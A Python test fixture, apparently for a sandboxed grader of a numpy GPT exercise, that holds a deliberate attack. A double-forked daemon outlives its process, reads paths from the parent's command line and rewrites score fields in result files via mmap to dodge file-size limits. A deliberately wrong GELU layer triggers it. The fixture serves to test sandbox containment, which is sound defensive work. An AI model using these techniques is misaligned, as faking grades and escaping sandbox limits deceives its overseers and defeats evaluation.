"""Double fork + setsid: a daemon outlives the worker, waits for results files to appear in the
folders on the parent's command line and rewrites them in place through mmap (no write(), so
RLIMIT_FSIZE does not stop it). Contained: the daemon dies with the sandbox, before any result
is written, and the results folder is not in the sandbox (bwrap) or not reachable (user)."""

import ctypes
import glob
import mmap
import os
import time

import numpy as np

from npgpt import Module, Parameter

DAEMON_NAME = b"npgpthostiled"  # the test writes a name of its run here


def grader_paths():
    """Absolute paths on the command lines of the parent and of this process (and their folders)."""
    found = set()
    for src in (f"/proc/{os.getppid()}/cmdline", "/proc/self/cmdline"):
        try:
            with open(src, "rb") as f:
                args = f.read().decode("utf-8", "replace").split("\0")
        except OSError:
            continue
        for a in args:
            while a.startswith("/") and len(a) > 1:
                found.add(a)
                a = os.path.dirname(a)
    return found


def attack():
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    ctypes.CDLL(None).prctl(15, DAEMON_NAME, 0, 0, 0)  # PR_SET_NAME: the test looks for it
    targets = [p for p in grader_paths() if not p.endswith(".py")]
    t0 = time.time()
    while time.time() - t0 < 20:
        for d in targets:
            for path in glob.glob(os.path.join(d, "*.json")) + glob.glob(os.path.join(d, "*.csv")):
                try:
                    with open(path, "r+b") as f:
                        m = mmap.mmap(f.fileno(), 0)
                        i = m.find(b'"score": 0')
                        if i >= 0:
                            m[i : i + 10] = b'"score": 9'
                        m.close()
                except (OSError, ValueError):
                    pass
        time.sleep(0.05)
    os._exit(0)


_done = []


def attack_once():
    if not _done:
        _done.append(1)
        attack()


class LayerNorm(Module):
    """Correct, and graded in a child of its own: it must keep its 10 points."""

    def __init__(self, emb_dim, eps=1e-5):
        super().__init__()
        self.eps = eps
        self.scale = Parameter(np.ones(emb_dim))
        self.shift = Parameter(np.zeros(emb_dim))

    def forward(self, x):
        mean = x.mean(-1, keepdims=True)
        var = ((x - mean) ** 2).mean(-1, keepdims=True)
        self.rstd = 1.0 / np.sqrt(var + self.eps)
        self.xhat = (x - mean) * self.rstd
        return self.xhat * self.scale.data + self.shift.data

    def backward(self, dout):
        C = dout.shape[-1]
        self.scale.grad += (dout * self.xhat).reshape(-1, C).sum(0)
        self.shift.grad += dout.reshape(-1, C).sum(0)
        g = dout * self.scale.data
        return self.rstd * (
            g - g.mean(-1, keepdims=True) - self.xhat * (g * self.xhat).mean(-1, keepdims=True)
        )


class GELU(Module):
    """Wrong on purpose (all zeros): full marks would mean the attack worked."""

    def forward(self, x):
        attack_once()
        return np.zeros_like(x)

    def backward(self, dout):
        return np.zeros_like(dout)
